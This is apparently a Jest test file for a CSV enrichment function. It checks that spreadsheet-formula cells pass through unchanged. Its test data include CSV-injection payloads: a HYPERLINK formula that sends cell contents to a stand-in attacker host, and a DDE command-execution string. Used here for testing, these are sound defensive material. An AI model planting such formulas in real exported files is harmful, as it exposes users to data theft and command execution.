import { describe, expect, it } from '@jest/globals'
import { parse } from 'csv-parse/sync'

import { enrichFile } from './enrich-file.ts'

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1-212-555-0147',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  "'=1+1",
]

describe('T15 a cell that a spreadsheet takes for a formula', () => {
  it('is kept byte for byte, because an importer would not undo a change', async () => {
    const quoted = FORMULAS.map((text) => `"${text.replaceAll('"', '""')}"`)
    const raw = `id,intent,utterance\n${quoted.map((cell, n) => `${n},greet,${cell}`).join('\n')}\n`
    const { csv } = await enrichFile(raw)
    const [, ...rows]: string[][] = parse(csv)
    expect(rows.map((row) => row[2])).toEqual(FORMULAS)
    expect(
      csv
        .toString()
        .split('\n')
        .slice(1, -1)
        .map((line, n) => line.startsWith(`${n},greet,${quoted[n]},`)),
    ).toEqual(FORMULAS.map(() => true))
  })
})
